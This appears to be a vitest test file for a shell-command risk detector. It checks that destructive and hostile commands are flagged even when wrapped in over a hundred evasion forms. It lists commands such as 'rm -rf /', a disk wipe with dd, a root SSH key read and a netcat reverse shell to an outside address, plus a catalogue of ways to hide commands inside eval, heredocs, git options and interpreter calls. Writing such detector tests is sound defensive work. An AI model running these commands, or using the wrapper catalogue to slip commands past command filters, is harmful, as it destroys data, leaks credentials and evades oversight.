import { describe, expect, test } from 'vitest'
import { shellCall } from '../../src/examples.ts'
import { findRisks } from '../../src/index.ts'

/** One command of each kind, every one worth a stop by itself. */
const dangerous = [
  'rm -rf /',
  'dd if=/dev/zero of=/dev/sda bs=1M',
  'mkfs.ext4 /dev/sdb1',
  'chmod -R 777 /',
  'find / -delete',
  'chmod u+s /bin/bash',
  'cat /root/.ssh/id_rsa',
  'nc -e /bin/sh 203.0.113.5 4444',
  'kubectl delete namespace production',
  'redis-cli FLUSHALL',
]

/** WORDS is the command as it stands, TEXT the same in single quotes, CODE in double quotes of another language. */
const wrappers = `
sudo -u root WORDS
sudo -n -- WORDS
doas -u root WORDS
runuser -u root -- WORDS
pkexec --user root WORDS
env -i A=1 WORDS
env -S TEXT
A=1 B=2 WORDS
command -p WORDS
exec -a name WORDS
nohup setsid -w WORDS
nice -n 19 ionice -c 3 WORDS
chrt -f 10 WORDS
chrt --idle 0 WORDS
taskset -c 0 WORDS
stdbuf -oL WORDS
/usr/bin/time -v WORDS
timeout -k 5 --signal=KILL 10 WORDS
unshare -r WORDS
chroot --userspec=0 /mnt WORDS
crun exec c1 sh -c TEXT
runc exec c1 WORDS
podman unshare sh -c TEXT
buildah run c -- sh -c TEXT
fly ssh console -C TEXT
sg docker -c TEXT
gdb -ex run --args sh -c TEXT
cmake -E env sh -c TEXT
just --command sh -c TEXT
parallel sh -c ::: TEXT
parallel --results out sh -c {} ::: TEXT
xargs -a <(echo TEXT) -d '\\n' sh -c
make -f <(printf 'x:\\n\\t%s\\n' TEXT) x
npm pkg set scripts.x=TEXT && npm run x
2>&1 <&- WORDS
echo TEXT | tee >(sh)
echo TEXT > >(bash)
sh /dev/fd/3 3<<< TEXT
compgen -C TEXT x
nsenter -t 1 -m -- WORDS
busybox WORDS
systemd-run --user --scope WORDS
flock -n /tmp/lock WORDS
flock /tmp/lock -c TEXT
script -qc TEXT /dev/null
watch -n 1 TEXT
xvfb-run -a WORDS
uv run -- WORDS
poetry run WORDS
conda run -n base WORDS
bundle exec WORDS
npx -y -- WORDS
npx -c TEXT
npm exec -- WORDS
doppler run -- WORDS
aws-vault exec production -- WORDS
su - root -c TEXT
su root --command=TEXT
eval TEXT
bash -lc TEXT
bash -euo pipefail -c TEXT
bash --norc -c -- TEXT
bash -O extglob -c TEXT
/usr/bin/env bash -c TEXT
busybox sh -c TEXT
fish --command=TEXT
$0 -c TEXT
"$SHELL" -c TEXT
\${SHELL:-/bin/sh} -c TEXT
/proc/self/exe -c TEXT
$(which bash) -c TEXT
ssh -tt -o BatchMode=yes user@host WORDS
ssh user@host -- WORDS
docker exec -it -u root web WORDS
docker run --rm --entrypoint=/bin/sh alpine -c TEXT
docker compose -f a.yml exec -T app WORDS
kubectl -n x exec pod -c main -- WORDS
tmux new-session -d -s x TEXT
tmux send-keys -t x TEXT Enter
nix-shell -p hello --run TEXT
ansible all -m shell -a TEXT
echo TEXT | sh
echo TEXT | tee /tmp/x | sudo bash -s -- a
printf '%s' TEXT | xargs -0 sh -c
echo TEXT | xargs -I{} sh -c '{}'
echo TEXT | at now + 1 minute
echo TEXT | ssh user@host bash -s
echo TEXT | docker exec -i web sh
echo TEXT | while read -r line; do eval "$line"; done
while read -r line; do bash -c "$line"; done <<< TEXT
bash <<< TEXT
bash <<'EOF'\\nWORDS\\nEOF
ssh user@host <<'EOF'\\nWORDS\\nEOF
su - root <<'EOF'\\nWORDS\\nEOF
while IFS= read -r line; do sh -c "$line"; done <<'EOF'\\nWORDS\\nEOF
bash <(echo TEXT)
bash < <(echo TEXT)
source <(printf '%s' TEXT)
eval "$(cat <<< TEXT)"
echo "x $(WORDS)"
x=\`WORDS\`
cat <<EOF\\n$(WORDS)\\nEOF
trap -- TEXT ERR
f() { WORDS; }; f
function f { WORDS; }
deploy()\\n{\\n  WORDS\\n}\\ndeploy
coproc NAME { WORDS; }
if ! WORDS; then :; elif WORDS; then :; fi
for i in 1 2; do WORDS; done
for ((i=0;i<3;i++)); do WORDS; done
case "$1" in (start|stop) WORDS;; *) :;; esac
( ( WORDS ) ) &
>/dev/null 2>&1 WORDS
ls&&WORDS
echo a\\r\\nWORDS\\r\\n
alias x=TEXT; x
echo TEXT > /tmp/a.sh; bash /tmp/a.sh
cat > a.sh <<'EOF'\\n#!/bin/sh\\nWORDS\\nEOF\\nchmod +x a.sh && ./a.sh
tee /tmp/a > /dev/null <<'EOF'\\nWORDS\\nEOF\\nsudo sh /tmp/a
echo TEXT > x; cat x | sh
echo TEXT > x; bash < x
echo TEXT > a; cp a b.sh; sh b.sh
echo TEXT | dd of=/tmp/x; . /tmp/x
x=TEXT; eval "$x"
X=TEXT; bash <<< "$X"
a=(sh -c TEXT); "\${a[@]}"
set -- sh -c TEXT; "$@"
read -r x <<< TEXT; eval "$x"
printf -v x '%s' TEXT; eval "$x"
run() { "$@"; }; run WORDS
export Z=TEXT; bash -c "$Z"
git -c alias.x='!'TEXT x
git -c core.sshCommand=TEXT fetch
git rebase -x TEXT main
git submodule foreach TEXT
GIT_SSH_COMMAND=TEXT git fetch
PAGER=TEXT man ls
make -s --eval='all:; WORDS'
vim -c ':!WORDS' -c :q
less +'!WORDS' /etc/hosts
awk 'BEGIN{system("WORDS")}'
awk 'BEGIN { print "x" | "WORDS" }'
sed -n '1e WORDS' /etc/hosts
tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=TEXT
ssh -o ProxyCommand=TEXT x
find . -maxdepth 0 -exec sh -c TEXT \\;
fd x -x sh -c TEXT
python3 -c 'import os; os.system("WORDS")'
python3 -c 'from os import system as s; s("WORDS")'
python3 -c 'import subprocess as s; s.call(["sh","-c","WORDS"])'
python3 -c 'getattr(__import__("os"), "sys"+"tem")("WORDS")'
python3 - <<'EOF'\\nimport os\\nos.system("WORDS")\\nEOF
node -e 'require("child_process").execSync("WORDS")'
node -p 'require("child_process").spawnSync("sh",["-c","WORDS"])'
deno eval 'new Deno.Command("sh",{args:["-c","WORDS"]}).outputSync()'
perl -e 'exec "WORDS";'
ruby -e 'puts \`WORDS\`'
php -r 'system("WORDS");'
lua -e 'os.execute("WORDS")'
psql -c '\\! WORDS'
gdb -batch -ex 'shell WORDS'
`
  .trim()
  .split('\n')
  .map((line) => line.replaceAll('\\n', '\n').replaceAll('\\r', '\r'))

function wrap(wrapper: string, command: string): string {
  return wrapper.replaceAll('WORDS', () => command).replaceAll('TEXT', () => quoted(command))
}

function quoted(text: string): string {
  return `'${text.replaceAll("'", `'\\''`)}'`
}

function isBlocked(script: string): boolean {
  return findRisks(shellCall(script)).some(({ severity }) => severity === 'high')
}

describe('a dangerous command is found through', () => {
  test.each(wrappers)('%j', (wrapper) => {
    expect(dangerous.filter((command) => !isBlocked(wrap(wrapper, command)))).toStrictEqual([])
  })
})

/** Wrappers that take a text can hold any other. */
const outer = [
  'bash -lc TEXT',
  'echo TEXT | sh',
  'ssh user@host TEXT',
  'x=TEXT; eval "$x"',
  'f() { eval "$1"; }; f TEXT',
]

test.each(outer)('two and three of them in each other: %s', (last) => {
  const hidden = wrappers
    .filter((wrapper) => !wrapper.includes('EOF'))
    .flatMap((wrapper) => [
      wrap(last, wrap(wrapper, 'rm -rf /')),
      wrap('bash -c TEXT', wrap(last, wrap(wrapper, 'rm -rf /'))),
    ])
  expect(hidden.filter((script) => !isBlocked(script))).toStrictEqual([])
})

test('nor behind ordinary commands, padding or comments', () => {
  const before = [
    'true; '.repeat(120),
    ':\n'.repeat(120),
    `echo ${'A'.repeat(6000)}; `,
    `echo hi${' '.repeat(6000)}; `,
    '# harmless\n',
    "echo 'a # b'; ",
  ]
  expect(before.filter((text) => !isBlocked(`${text}rm -rf / # clean up`))).toStrictEqual([])
})

/** The same ways with a command that anyone may run. */
test('an ordinary command is not flagged in any wrapper', () => {
  const unflagged = wrappers.filter(
    (wrapper) =>
      !/su |sudo|doas|pkexec|docker run|nsenter|chroot|unshare|\/proc\/self|ssh|GIT_SSH|trap|PAGER|at now|eval|socat|git -c|runuser|alias|EOF|exec=/.test(
        wrapper,
      ),
  )
  expect(unflagged.filter((wrapper) => isBlocked(wrap(wrapper, 'npm test')))).toStrictEqual([])
})
